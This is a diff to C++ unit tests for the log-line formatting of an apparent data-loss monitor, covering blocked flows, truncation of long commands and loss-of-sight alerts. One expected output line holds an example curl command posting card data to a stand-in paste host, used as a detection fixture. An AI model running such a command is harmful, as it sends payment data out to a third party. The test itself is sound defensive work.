@@ -27,9 +27,39 @@ std::string line_of(const Finding& finding, bool colour = false) {
 TEST_F(ReadableLine, SaysWhoWhatWhereWhyAndWhatWasDone) {
   EXPECT_EQ(
       line_of(test::sample_finding()),
-      "12:03:55 WOULD BLOCK  curl[812] (alice, session-3.scope) → 203.0.113.9:80 tcp   1 card "
+      "2026-11-24 12:03:55 WOULD BLOCK  curl[812] (alice, session-3.scope) → 203.0.113.9:80 tcp   1 card "
       "************1111\n"
-      "         no flow lets card leave to 203.0.113.9:80 (violations.card); nearest flow: charge-cards\n");
+      "         violations.card: no flow lets card leave to 203.0.113.9:80; nearest flow: charge-cards\n"
+      "         curl -d card=**************** http://paste.example/   sluice show 00c0ffee00c0ffee\n");
+}
+
+TEST_F(ReadableLine, SaysHowItWasBlocked) {
+  Finding finding = test::sample_finding();
+  finding.decision.verdict = Verdict::block;
+  finding.done = "socket disconnected";
+  EXPECT_NE(line_of(finding).find("************1111   (socket disconnected)\n"), std::string::npos);
+}
+
+TEST_F(ReadableLine, CutsALongCommandBetweenCharacters) {
+  Finding finding = test::sample_finding();
+  finding.sender.args = "curl " + std::string(94, 'a') + "é" + std::string(900, 'b');
+  const std::string line = line_of(finding);
+  EXPECT_NE(line.find("aaa"), std::string::npos);
+  EXPECT_EQ(line.find('b', line.find("aaa")), std::string::npos);
+  EXPECT_EQ(line.find("\xc3…"), std::string::npos);
+}
+
+TEST_F(ReadableLine, LossOfSightNamesNoProcessAndNoDestination) {
+  Finding finding;
+  finding.kind = FindingKind::coverage;
+  finding.last = test::kNoon;
+  finding.decision = {.verdict = Verdict::alert,
+                      .rule = "failure.overload",
+                      .nearest = {},
+                      .reason = "3 packets passed unread: the ring buffer was full"};
+  EXPECT_EQ(line_of(finding),
+            "2026-11-24 12:03:55 ALERT        sluiced   loss of sight\n"
+            "         failure.overload: 3 packets passed unread: the ring buffer was full\n");
 }
 
 TEST_F(ReadableLine, CountsRepeatsAndNamesTheDestination) {
